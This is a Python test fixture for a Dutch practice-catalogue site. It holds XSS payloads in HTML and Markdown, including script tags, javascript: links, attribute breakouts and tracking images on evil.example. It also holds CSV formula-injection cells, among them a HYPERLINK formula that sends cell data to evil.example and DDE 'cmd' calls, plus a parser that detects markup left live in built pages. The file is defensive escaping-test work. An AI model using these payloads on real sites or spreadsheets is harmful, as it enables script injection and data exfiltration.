"""Hostile HTML and Markdown for text fields, shared by test_escaping.py and the browser test.

Each payload sets `window.__pwned` (or asks another host for something) if it ever runs,
so a browser test can tell that nothing did. Every record puts its payload in every text
field the schema has, so every place a text can appear on the site is covered.
"""

from __future__ import annotations

import json
import re
from html.parser import HTMLParser

EVIL_HOST = "evil.example"

PAYLOADS = {
    "script": "<script>window.__pwned='script';alert('script')</script>",
    "iframe": "<iframe src=\"javascript:window.__pwned='iframe'\"></iframe>",
    "onerror": "<img src=x onerror=\"window.__pwned='onerror'\">",
    "svg": "<svg onload=\"window.__pwned='svg'\"><circle r=1></svg>",
    "style": "<style>body{display:none} @import url(//evil.example/x.css);</style>",
    "js-link": "[klik hier](javascript:window.__pwned='js-link')",
    "js-link-spaced": "[klik hier]( <javascript:window.__pwned='js-link-spaced'> )",
    "js-refdef": "Zie [de bron][r].\n\n[r]: javascript:window.__pwned='js-refdef'",
    "js-refdef-in-list": "- [r]: javascript:window.__pwned='js-refdef-in-list'\n\n[klik][r]",
    "html-link": "<a href=\"javascript:window.__pwned='html-link'\">klik</a>",
    "attr-list": "Tekst { onclick=\"window.__pwned='attr-list'\" }",
    "attr-list-colon": "Kop\n{: onmouseover=\"window.__pwned='attr-list-colon'\" }",
    "title-breakout": "</title><script>window.__pwned='title-breakout'</script>",
    "attr-breakout": "\"><script>window.__pwned='attr-breakout'</script><x a=\"",
    "external-image": "![x](https://evil.example/track.png)",
    "external-image-ref": "![x][img]\n\n[img]: https://evil.example/track.png",
    "md-in-html": "<div markdown=\"1\">[x](javascript:window.__pwned='md-in-html')</div>",
    "entity-js-link": "[klik](jav&#x61;script:window.__pwned='entity-js-link')",
    "js-link-case": "[klik](JaVaScRiPt:window.__pwned='js-link-case')",
    "data-link": "[klik](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "autolink": "<javascript:window.__pwned='autolink'>",
}

# What a generated Markdown page must never hold as it was written: raw HTML, unsafe
# link targets, images and attribute lists would all be live once MkDocs renders them.
RAW_FRAGMENTS = [
    "<script>window", "<iframe", "<img src=x", "<svg onload", "<style>", '<a href="javascript',
    '<div markdown', "</title><script", '"><script', "](javascript:", "]( <javascript", "]: javascript:",
    "![x]", "{ onclick", "{: onmouseover", "<javascript",
]
UNSAFE_LINK_PATTERNS = [
    r"(?i)\]\(\s*<?\s*(?!https?:|mailto:)[a-z][a-z0-9+.\-]*:",  # [x](javascript:…)
    r"(?i)\[[^\[\]]*\]:\s*<?\s*(?!https?:|mailto:)[a-z][a-z0-9+.\-]*:",  # [r]: javascript:…
]

# Cells of a CSV that a spreadsheet would run as a formula.
FORMULAS = {
    "formule-is": "=HYPERLINK(\"https://evil.example/?\"&A1,\"Klik\")",
    "formule-plus": "+1+cmd|' /C calc'!A0",
    "formule-min": "-2+3+cmd|' /C calc'!A0",
    "formule-at": "@SUM(1+9)*cmd|' /C calc'!A0",
    "formule-spatie": "   =1+1",
    "formule-breed": "＝1+1",
}


def _yaml_string(text: str) -> str:
    return json.dumps(text, ensure_ascii=False)  # a JSON string is a valid double-quoted YAML scalar


def hostile_record(payload: str, nr: int) -> str:
    """A valid nomination that carries the payload in every text field."""
    s = _yaml_string
    one = payload.replace("\n", " ")
    title = f"Praktijk {nr} {one}"[:200]
    criteria = "\n".join(
        f"  {cid}:\n    verdict: voldoet\n    by: jury\n    where: {s(one)}\n    text: {s(payload)}"
        for cid in ("voorbeeldfunctie", "ketensamenwerking", "duurzaamheid", "innovatie", "effect-op-werkenden")
    )
    return f"""\
title: {s(title)}
kind: nominatie
summary: {s("Een samenvatting van twintig tekens of meer. " + payload)}
description: {s(payload)}
organisations:
  - {{name: {s("Bedrijf " + one)}, role: {s(one)}, note: {s(one)}}}
sectors: [schoonmaak]
target_groups: [statushouders]
regions: [overijssel]
place: {s(one)}
period: {{start: "2022", note: {s(one)}}}
award: {{edition: best-practice-award-2022, stage: finalist}}
criteria:
{criteria}
results:
  - {{value: {s(one)}, unit: {s(one)}, what: {s(one)}, status: gerealiseerd, where: {s(one)}}}
worked: [{s(one)}]
failed: [{s(one)}]
lessons: [{s(one)}]
caveats: [{s(one)}]
quotes:
  - {{text: {s(one[:600])}, speaker: {s(one)}, where: {s(one)}}}
links:
  - {{title: {s(one)}, url: "https://www.example.nl/pagina?a=1&b=2"}}
sources:
  - {{source: week-van-de-1000-voorbeelden-2020, where: {s(one)}, note: {s(one)}}}
"""


def hostile_records() -> dict[str, str]:
    """id -> YAML text, one record per payload; they relate to each other so the
    related and similar lists on every practice page show hostile titles too."""
    ids = [f"vijandig-{nr}" for nr in range(len(PAYLOADS))]
    records = {}
    for nr, (name, payload) in enumerate(PAYLOADS.items()):
        # both neighbours on the ring: related links go both ways, as validate asks
        related = [ids[(nr - 1) % len(ids)], ids[(nr + 1) % len(ids)]]
        records[ids[nr]] = hostile_record(payload, nr) + f"related: [{', '.join(related)}]\n"
    return records


def formula_record(text: str) -> str:
    """A valid record whose text fields, as CSV cells, would start a formula."""
    s = _yaml_string
    return f"""\
title: {s(text + " titel")}
kind: voorbeeld
summary: {s(text + " en een samenvatting die lang genoeg is")}
organisations:
  - {{name: {s(text)}, role: {s(text)}}}
sectors: [schoonmaak]
target_groups: [statushouders]
place: {s(text)}
results:
  - {{value: {s(text)}, unit: {s(text)}, what: {s(text)}, status: doel}}
sources:
  - {{source: week-van-de-1000-voorbeelden-2020, where: {s(text)}, note: {s(text)}}}
"""


class LiveMarkup(HTMLParser):
    """Collects what would run, or fetch from another host, in a built page: event
    attributes, script URLs, frames, styles, foreign images, and scripts a record wrote."""

    URL_ATTRS = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "srcset"}
    NEVER = {"iframe", "frame", "frameset", "object", "embed", "style", "base", "applet"}

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, str, str]] = []
        self.open: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.open.append(tag)
        if tag in self.NEVER:
            self.found.append((tag, "", str(attrs)[:100]))
        for name, value in attrs:
            value = (value or "").strip()
            if name.startswith("on") or name == "srcdoc":
                self.found.append((tag, name, value[:100]))
            elif name in self.URL_ATTRS and re.match(r"(?i)(javascript|vbscript|data):", value):
                self.found.append((tag, name, value[:100]))
            elif name in self.URL_ATTRS and tag != "a" and re.match(r"(?i)(https?:)?//", value):
                self.found.append((tag, name, value[:100]))  # a request to another host

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)
        self.open.pop()

    def handle_endtag(self, tag):
        if tag in self.open:
            while self.open.pop() != tag:
                pass

    def handle_data(self, data):
        if self.open and self.open[-1] in ("script", "style") and ("__pwned" in data or EVIL_HOST in data):
            self.found.append((self.open[-1], "text", data[:100]))


def live_markup(html: str) -> list[tuple[str, str, str]]:
    parser = LiveMarkup()
    parser.feed(html)
    parser.close()
    return parser.found
